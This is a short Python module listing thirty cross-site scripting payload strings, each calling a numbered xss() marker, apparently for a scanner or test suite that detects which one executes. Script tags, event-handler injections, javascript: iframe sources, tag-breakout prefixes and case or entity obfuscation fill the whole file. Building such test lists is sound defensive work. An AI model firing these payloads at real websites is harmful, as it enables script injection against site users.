"""Thirty texts that run a program where a page takes them for markup; ``xss`` is told which."""

from __future__ import annotations

_TEXTS = (
    "<script>xss(@)</script>",
    '"><script>xss(@)</script>',
    "'><script>xss(@)</script>",
    "</textarea><script>xss(@)</script>",
    "</title><script>xss(@)</script>",
    "</script><script>xss(@)</script>",
    "--><script>xss(@)</script>",
    "<ScRiPt >xss(@)</sCrIpT >",
    "<script src=data:text/javascript,xss(@)></script>",
    "<svg><script>xss(@)</script></svg>",
    "<img src=x onerror=xss(@)>",
    '"><img src=x onerror=xss(@)>',
    "<IMG SRC=x ONERROR=xss(@)>",
    '<img/src="x"onerror=xss(@)>',
    "<img src=x onerror=&#120;ss(@)>",
    "<image src=x onerror=xss(@)>",
    "<math><mtext><img src=x onerror=xss(@)>",
    "<svg onload=xss(@)>",
    "<svg/onload=xss(@)//",
    "<svg><image href=x onerror=xss(@)>",
    "<svg><animate onbegin=xss(@) attributeName=x dur=1s>",
    "<body onload=xss(@)>",
    "<iframe src=javascript:parent.xss(@)></iframe>",
    "<iframe srcdoc='<script>parent.xss(@)</script>'></iframe>",
    "<iframe onload=xss(@)></iframe>",
    "<details open ontoggle=xss(@)>",
    "<video><source onerror=xss(@)></video>",
    "<audio src=x onerror=xss(@)>",
    "<style onload=xss(@)></style>",
    '<noscript><p title="</noscript><img src=x onerror=xss(@)>">',
)
PAYLOADS = tuple(text.replace("@", str(number)) for number, text in enumerate(_TEXTS))
ALL = "\n".join(PAYLOADS)
